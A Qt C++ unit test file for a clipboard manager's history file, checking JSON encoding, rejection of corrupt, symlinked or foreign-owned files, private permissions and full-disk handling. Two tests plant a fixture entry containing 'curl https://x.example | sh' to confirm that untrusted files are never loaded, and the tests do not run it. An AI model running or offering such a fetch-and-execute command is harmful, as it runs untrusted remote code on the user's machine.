#include "HistoryFixture.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <csignal>
#include <tuple>

#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace ondrel;
using test::textItem;

static QStringList corruptCopies(const QString& folder)
{
    return QDir(folder).entryList({QStringLiteral("history.json.corrupt-*")},
                                  QDir::AllEntries | QDir::System);
}

class TestHistoryFile : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init() { test::failOnUnexpectedWarnings(); }

    void exactFormat_data();
    void exactFormat();
    void roundTrip();
    void reading_data();
    void reading();
    void firstLaunchCreatesPrivateFolderAndFile();
    void notAHistoryFile_data();
    void notAHistoryFile();
    void unwritableFolderKeepsOldFile();
    void foreignFolderIsNotUsed();
    void leftoverTemporaryFilesAreRemoved();
    void fullDiskSaysSoOncePerRunOfFailures();
};

void TestHistoryFile::exactFormat_data()
{
    // One entry, and its record as written up to the pin.
    QTest::addColumn<QString>("text");
    QTest::addColumn<double>("timestamp");
    QTest::addColumn<QString>("app"); // empty: none
    QTest::addColumn<QByteArray>("record");
    QTest::newRow("escapes") << "a/b \"q\" \\ \n\r\t\b\f\u0001\u001f" << 1.5 << "Editor"
                             << QByteArray(
                                    R"({"text":"a\/b \"q\" \\ \n\r\t\b\f\u0001\u001f","timestamp":1.5,)"
                                    R"("appName":"Editor","isPinned":)");
    QTest::newRow("other characters as they are")
        << "ünï ✓ 😀 </script>" << 0.0 << QString()
        << QByteArray(R"({"text":"ünï ✓ 😀 <\/script>","timestamp":0,"isPinned":)");
    QTest::newRow("shortest timestamp, quoted app")
        << "t" << 786000000.123456 << "App \"1\""
        << QByteArray(R"({"text":"t","timestamp":786000000.123456,"appName":"App \"1\"","isPinned":)");
    // Long texts are held in the file's form.
    QTest::newRow("long text") << QStringLiteral("é/\"\\\t\u0001").repeated(1000) << 2.25 << "A"
                               << R"({"text":")" + QByteArray(R"(é\/\"\\\t\u0001)").repeated(1000) +
                                      R"(","timestamp":2.25,"appName":"A","isPinned":)";
}

void TestHistoryFile::exactFormat()
{
    QFETCH(QString, text);
    QFETCH(double, timestamp);
    QFETCH(QString, app);
    QFETCH(QByteArray, record);
    ClipboardItem item = textItem(text, timestamp, app.isEmpty() ? std::nullopt : std::optional(app));
    QCOMPARE(HistoryFile::encode({item}), "[" + record + "false}]");
    // The pin is written as it is now, not as it was at the first save;
    // only texts are written.
    item.setPinned(true);
    const ClipboardItem image = ClipboardItem::makeImage(test::filledImage(QSize(1, 1), Qt::red));
    const ClipboardItem file = ClipboardItem::makeFile({QUrl(QStringLiteral("file:///x"))});
    QCOMPARE(HistoryFile::encode({image, item, file, item}), "[" + record + "true}," + record + "true}]");
    QCOMPARE(HistoryFile::encode({}), QByteArray("[]"));
}

void TestHistoryFile::roundTrip()
{
    QTemporaryDir dir;
    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
    const QList<ClipboardItem> items{
        textItem(QStringLiteral("fn main() {"), 786000000.123456, QStringLiteral("Editor"), true),
        textItem(QStringLiteral("plain"), 1.5),
        // A leading byte-order mark is part of the text, short or long.
        textItem(QStringLiteral("\uFEFFmarked"), 2), textItem(u'\uFEFF' + QString(20000, u'x'), 3)};
    QVERIFY(file.save(items));
    const QList<ClipboardItem> loaded = file.load();
    QCOMPARE(loaded.size(), items.size());
    const auto fields = [](const ClipboardItem& i) {
        return std::tuple(i.text(), i.timestamp().secondsSinceReferenceDate(), i.appName(), i.isPinned(),
                          i.detectedLanguage());
    };
    for (int i = 0; i < items.size(); ++i)
        QVERIFY(fields(loaded[i]) == fields(items[i]));
    QCOMPARE(loaded[0].detectedLanguage(), DetectedLanguage::rust);
    QCOMPARE(loaded[1].timestamp().toDateTime(), QDateTime(QDate(2001, 1, 1), QTime(0, 0, 1, 500), Qt::UTC));
}

void TestHistoryFile::reading_data()
{
    // A file found at start, and the entries read from it; -1: it cannot
    // be read, and is moved aside before anything is written over it.
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<int>("count");
    const auto row = [](const char* name, const QByteArray& content, int count) {
        QTest::newRow(name) << content << count;
    };
    row("empty array", "[]", 0);
    row("empty file", {}, 0);
    row("unknown members ignored", R"([{"text":"a","timestamp":0,"isPinned":false,"x":[1]}])", 1);
    row("member order free", R"([{"isPinned":true,"timestamp":1e3,"text":"a"}])", 1);
    row("null appName is absent", R"([{"text":"a","timestamp":0,"isPinned":false,"appName":null}])", 1);
    row("pretty printed", "[\n  {\n    \"text\" : \"a\", \"timestamp\" : 2, \"isPinned\" : false\n  }\n]", 1);
    row("truncated", R"([{"text":"a","timestamp":0,"isPin)", -1);
    row("not json", "hello", -1);
    row("object instead of array", R"({"text":"a","timestamp":0,"isPinned":false})", -1);
    row("missing isPinned", R"([{"text":"good","timestamp":0,"isPinned":false},{"text":"a","timestamp":0}])",
        -1);
    row("missing text", R"([{"timestamp":0,"isPinned":false}])", -1);
    row("missing timestamp", R"([{"text":"a","isPinned":false}])", -1);
    row("timestamp as string", R"([{"text":"a","timestamp":"0","isPinned":false}])", -1);
    row("isPinned as number", R"([{"text":"a","timestamp":0,"isPinned":1}])", -1);
    row("appName as number", R"([{"text":"a","timestamp":0,"isPinned":false,"appName":5}])", -1);
    row("record not an object", R"(["a"])", -1);
    row("timestamp out of range", R"([{"text":"a","timestamp":1e999,"isPinned":false}])", -1);
    row("100 MB, never closed", QByteArray("[{\"text\":\"") + QByteArray(100 << 20, 'x'), -1);
    row("invalid utf-8", "[{\"text\":\"\xff\",\"timestamp\":0,\"isPinned\":false}]", -1);
}

void TestHistoryFile::reading()
{
    QFETCH(QByteArray, content);
    QFETCH(int, count);
    QTemporaryDir dir;
    HistoryFile file(dir.path());
    QVERIFY(test::writeFile(file.filePath(), content));
    QVERIFY(QFile::setPermissions(file.filePath(), QFileDevice::ReadOwner | QFileDevice::WriteOwner |
                                                       QFileDevice::ReadGroup | QFileDevice::ReadOther));
    QCOMPARE(file.load().size(), std::max(count, 0));
    if (count < 0)
        QTest::ignoreMessage(
            QtWarningMsg, QRegularExpression(QStringLiteral("^History file .* could not be read; moved it to "
                                                            ".*history\\.json\\.corrupt-\\d{8}T\\d{6}Z$")));
    QVERIFY(file.save({textItem(QStringLiteral("new"), 1)}));
    const QStringList copies = corruptCopies(dir.path());
    QCOMPARE(copies.size(), count < 0 ? 1 : 0);
    if (count < 0) {
        QCOMPARE(test::readFile(dir.filePath(copies.first())), content);
        // Private, whatever mode the unreadable file had.
        QCOMPARE(QFileInfo(dir.filePath(copies.first())).permissions() & 0x0777, 0x0600);
    }
    QCOMPARE(file.load().size(), 1);
    // Only once: later saves replace the good file without another copy.
    QVERIFY(file.save({}));
    QCOMPARE(corruptCopies(dir.path()), copies);
}

void TestHistoryFile::firstLaunchCreatesPrivateFolderAndFile()
{
    {
        test::TemporaryHome home;
        QCOMPARE(HistoryFile::defaultFolder(), home.dataHome() + QStringLiteral("/ondrel"));
    }
    QTemporaryDir dir;
    const QString folder = dir.path() + QStringLiteral("/deep/ondrel");
    HistoryFile file(folder);
    QVERIFY(file.load().isEmpty());
    QVERIFY(QFileInfo(folder).isDir());
    QCOMPARE(test::unixMode(folder), 0700);
    QVERIFY(file.save({textItem(QStringLiteral("x"), 3)}));
    QCOMPARE(test::unixMode(file.filePath()), 0600);
    QCOMPARE(test::readFile(file.filePath()), QByteArray(R"([{"text":"x","timestamp":3,"isPinned":false}])"));
    QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden),
             QStringList{QStringLiteral("history.json")}); // no temporary left
    // A folder there already with wider modes is narrowed.
    QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                              QFile::ReadOther | QFile::WriteOther | QFile::ExeOther));
    QVERIFY(HistoryFile(folder).load().size() == 1);
    QCOMPARE(test::unixMode(folder), 0700);
}

void TestHistoryFile::notAHistoryFile_data()
{
    QTest::addColumn<QString>("what"); // where the file should be
    QTest::addColumn<QString>("said"); // why it is not loaded
    const auto row = [](const char* name, const char* what, const char* said) {
        QTest::newRow(name) << QString::fromUtf8(what) << QString::fromUtf8(said);
    };
    row("folder", "folder", "it is not a regular file");
    // A link to itself cannot be opened, by root or anyone.
    row("link to itself", "loop", "it is a symbolic link");
    row("link to a file", "link", "it is a symbolic link");
    row("unreadable file", "unreadable", "Permission denied");
    row("another user's file", "foreign", "it belongs to another user \\(uid 4242\\)");
}

void TestHistoryFile::notAHistoryFile()
{
    QFETCH(QString, what);
    QFETCH(QString, said);
    if (what == u"unreadable" && test::runningAsRoot())
        QSKIP("root reads files of mode 000");
    if (what == u"foreign" && !test::runningAsRoot())
        QSKIP("only root can hand a file to another user");
    QTemporaryDir dir;
    HistoryFile file(dir.path());
    const QString path = file.filePath();
    const QString elsewhere = dir.filePath(QStringLiteral("elsewhere.json"));
    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
    if (what == u"folder") {
        QVERIFY(QDir().mkpath(path + QStringLiteral("/inner")));
    } else if (what == u"loop") {
        QVERIFY(QFile::link(path, path));
    } else if (what == u"link") {
        QVERIFY(test::writeFile(elsewhere, planted));
        QVERIFY(QFile::link(elsewhere, path));
    } else {
        QVERIFY(test::writeFile(path, planted));
        if (what == u"unreadable")
            QVERIFY(QFile::setPermissions(path, {}));
        else
            QCOMPARE(::chown(QFile::encodeName(path).constData(), 4242, 4242), 0);
    }
    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("is not loaded: ") + said + u'$'));
    QVERIFY(file.load().isEmpty());
    // Kept aside for a look, never rewritten as ours; a linked file is untouched.
    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
    QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
    const QStringList copies = corruptCopies(dir.path());
    QCOMPARE(copies.size(), 1);
    const QFileInfo copy(dir.filePath(copies.first()));
    QCOMPARE(copy.isSymLink(), what == u"loop" || what == u"link");
    QCOMPARE(copy.isDir(), what == u"folder");
    QCOMPARE(test::readFile(elsewhere), what == u"link" ? planted : QByteArray());
    QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
}

void TestHistoryFile::unwritableFolderKeepsOldFile()
{
    QTemporaryDir dir;
    // A plain file where the folder should be: nothing can be created under it.
    const QString blocker = dir.path() + QStringLiteral("/ondrel");
    QVERIFY(test::writeFile(blocker, "not a folder"));
    HistoryFile blocked(blocker);
    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral(
                                           "^History folder .* is not used: it is not a folder$")));
    QVERIFY(blocked.load().isEmpty());
    QVERIFY(!blocked.save({textItem(QStringLiteral("a"), 0)}));
    QVERIFY(!blocked.save({textItem(QStringLiteral("a"), 0)})); // logged once
    QCOMPARE(test::readFile(blocker), QByteArray("not a folder"));

    // A write that stops half-way (as on a full disk), for root too: a file
    // size limit makes the write fail with EFBIG.
    {
        HistoryFile file(dir.path() + QStringLiteral("/limited"));
        const ClipboardItem old = textItem(QStringLiteral("old"), 0);
        QVERIFY(file.save({old}));
        const QByteArray before = test::readFile(file.filePath());
        struct rlimit saved
        {};
        QCOMPARE(::getrlimit(RLIMIT_FSIZE, &saved), 0);
        const auto previousHandler = std::signal(SIGXFSZ, SIG_IGN);
        struct rlimit limited = saved;
        limited.rlim_cur = rlim_t(before.size() + 16);
        QCOMPARE(::setrlimit(RLIMIT_FSIZE, &limited), 0);
        QTest::ignoreMessage(
            QtWarningMsg, QRegularExpression(QStringLiteral("^Could not save history to .*File too large")));
        const ClipboardItem big = textItem(QString(4096, u'n'), 0);
        const auto result = file.save({big, old});
        ::setrlimit(RLIMIT_FSIZE, &saved);
        std::signal(SIGXFSZ, previousHandler);
        // What fits under the limit is written.
        QCOMPARE(result.leftOut, QSet<QUuid>{big.id()});
        QCOMPARE(test::readFile(file.filePath()), before);
        QCOMPARE(QDir(dir.path() + QStringLiteral("/limited")).entryList(QDir::Files | QDir::Hidden),
                 QStringList{QStringLiteral("history.json")}); // no half-written temporary file left
    }
}

void TestHistoryFile::foreignFolderIsNotUsed()
{
    if (!test::runningAsRoot())
        QSKIP("only root can hand a folder to another user");
    QTemporaryDir dir;
    const QString folder = dir.path() + QStringLiteral("/ondrel");
    QVERIFY(QDir().mkpath(folder));
    // Out of the macro: a raw string among a macro's arguments confuses moc.
    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
    QVERIFY(test::writeFile(folder + QStringLiteral("/history.json"), planted));
    QCOMPARE(::chown(QFile::encodeName(folder).constData(), 4242, 4242), 0);
    ::chmod(QFile::encodeName(folder).constData(), 0777);
    HistoryFile file(folder);
    QTest::ignoreMessage(
        QtWarningMsg,
        QRegularExpression(QStringLiteral(
            "^History folder .*/ondrel is not used: it belongs to another user \\(uid 4242\\)$")));
    QVERIFY(file.load().isEmpty());
    const ClipboardItem image = ClipboardItem::makeImage(test::filledImage(QSize(1, 1), Qt::red));
    const ClipboardItem mine = textItem(QStringLiteral("mine"), 0);
    QCOMPARE(file.save({image, mine}).leftOut, (QSet<QUuid>{image.id(), mine.id()})); // said once
    // Neither loaded nor rewritten, and its modes are not ours to change.
    QVERIFY(test::readFile(folder + QStringLiteral("/history.json")).contains("curl"));
    QCOMPARE(test::unixMode(folder), 0777);
}

void TestHistoryFile::leftoverTemporaryFilesAreRemoved()
{
    QTemporaryDir dir;
    HistoryFile file(dir.path());
    QVERIFY(file.save({textItem(QStringLiteral("kept"), 0)}));
    // What a cut-off save leaves goes; the user's own copies beside the file
    // stay, whatever they are called.
    const QStringList leftovers{QStringLiteral(".history.json.ondrel-partial-a1B2c3")};
    const QStringList others =
        QStringLiteral("history.json.backup history.json.bak001 history.json.before history.json.a1B2c3 "
                       "history.json.corrupt-20260101T000000Z .history.json.ondrel-partial-a1B2c3-mine "
                       ".notes.json.ondrel-partial-a1B2c3")
            .split(u' ');
    for (const QString& name : leftovers + others)
        QVERIFY(test::writeFile(dir.path() + u'/' + name, "[]"));
    // A link under that name is not ours to follow or remove.
    QVERIFY(QFile::link(dir.filePath(QStringLiteral("history.json.backup")),
                        dir.filePath(QStringLiteral(".history.json.ondrel-partial-linked"))));
    QCOMPARE(file.load().size(), 1);
    for (const QString& name : leftovers)
        QVERIFY2(!QFile::exists(dir.path() + u'/' + name), qPrintable(name));
    for (const QString& name : others + QStringList{QStringLiteral(".history.json.ondrel-partial-linked")})
        QVERIFY2(QFileInfo(dir.path() + u'/' + name).exists(), qPrintable(name));
}

void TestHistoryFile::fullDiskSaysSoOncePerRunOfFailures()
{
    // A real full disk: a small memory file system (root only).
    QTemporaryDir dir;
    test::SmallDisk disk(dir.path(), "64k");
    if (!disk.mounted())
        QSKIP("needs root to mount a small file system");
    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
    QVERIFY(file.load().isEmpty());
    const ClipboardItem small = textItem(QStringLiteral("small"), 0);
    const ClipboardItem big = textItem(QString(100 * 1024, u'b'), 0);
    const ClipboardItem pinned = textItem(QStringLiteral("pinned"), 0, std::nullopt, true);
    QVERIFY(file.save({small}));

    // What fits is written: all but the entry too big for the disk.
    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral(
                                           "^Could not save history to .*: No space left on device$")));
    const auto first = file.save({pinned, big, small});
    QCOMPARE(first.error, QStringLiteral("No space left on device"));
    QCOMPARE(first.leftOut, QSet<QUuid>{big.id()});
    const auto second = file.save({pinned, big, small}); // the same run of failures: no second line
    QCOMPARE(second.leftOut, QSet<QUuid>{big.id()});
    QCOMPARE(test::readFile(file.filePath()), HistoryFile::encode({pinned, small}));
    QCOMPARE(QDir(dir.path() + QStringLiteral("/ondrel")).entryList(QDir::Files | QDir::Hidden),
             QStringList{QStringLiteral("history.json")});
    // A success ends the run; the next failure is told again. What the file
    // holds stays in it rather than make room for a newer entry.
    const ClipboardItem saved = textItem(QString(24 * 1024, u's'), 0);
    QVERIFY(file.save({saved}));
    const ClipboardItem newer = textItem(QString(20 * 1024, u'n'), 1);
    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral(
                                           "^Could not save history to .*: No space left on device$")));
    QCOMPARE(file.save({newer, saved}).leftOut, QSet<QUuid>{newer.id()});
    QCOMPARE(test::readFile(file.filePath()), HistoryFile::encode({saved}));

    // An image without room stays in memory only, said once; the texts are
    // saved. With room again, it is saved too.
    QImage noise(160, 160, QImage::Format_RGB32); // does not compress
    std::generate_n(reinterpret_cast<quint32*>(noise.bits()), 160 * 160,
                    [n = 1u]() mutable { return n = n * 1664525u + 1013904223u; });
    const ClipboardItem image = ClipboardItem::makeImage(noise);
    QTest::ignoreMessage(QtWarningMsg,
                         QRegularExpression(QStringLiteral(
                             "^Could not save images and other forms to .*: No space left on device$")));
    const auto withImage = file.save({image, small});
    QCOMPARE(withImage.leftOut, QSet<QUuid>{image.id()});
    QCOMPARE(withImage.error, QStringLiteral("No space left on device"));
    QCOMPARE(test::readFile(file.filePath()), HistoryFile::encode({small}));
    QVERIFY(disk.resize("8m"));
    const auto roomAgain = file.save({image, small});
    QVERIFY(roomAgain && roomAgain.leftOut.isEmpty());
    QCOMPARE(file.load().first().imageSize(), QSize(160, 160));
}

QTEST_GUILESS_MAIN(TestHistoryFile)
#include "tst_historyfile.moc"
